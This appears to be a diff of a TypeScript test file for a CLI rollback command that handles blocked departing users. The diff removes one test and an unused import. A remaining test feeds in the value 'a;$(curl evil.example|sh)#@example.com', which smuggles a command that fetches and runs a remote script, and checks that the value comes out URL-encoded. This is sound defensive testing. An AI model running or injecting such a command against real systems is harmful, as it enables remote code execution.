@@ -1,7 +1,6 @@
 import {
   blockedLeaverLines,
   blockLeaversQuestion,
-  earlierBlockedLines,
   leaverLines,
 } from "../../../../cli/commands/rollback/leavers-text";
 import type { EnabledLeaver, EnabledLeavers } from "../../../../operations/rollback/leavers";
@@ -110,13 +109,4 @@ test("prints no request by hand in which a name of the directory or a record wou
   expect(by("a;$(curl evil.example|sh)#@example.com")).toBe(
     request("a%3B%24%28curl%20evil.example%7Csh%29%23@example.com"),
   );
-});
-
-test("tells an undo whom the rollback blocked, or may have", () => {
-  const outcomes = ["blocked", "not blocked", "intended"] as const;
-  const blocked = outcomes.map((outcome) => ({ upn: `${outcome}@example.com`, id: "1", outcome }));
-  expect(earlierBlockedLines(blocked).join()).toMatch(
-    /^The rollback blocked blocked@example\.com, intended@example\.com at Microsoft, .* They stay blocked: /,
-  );
-  expect(earlierBlockedLines()).toEqual([]);
 });
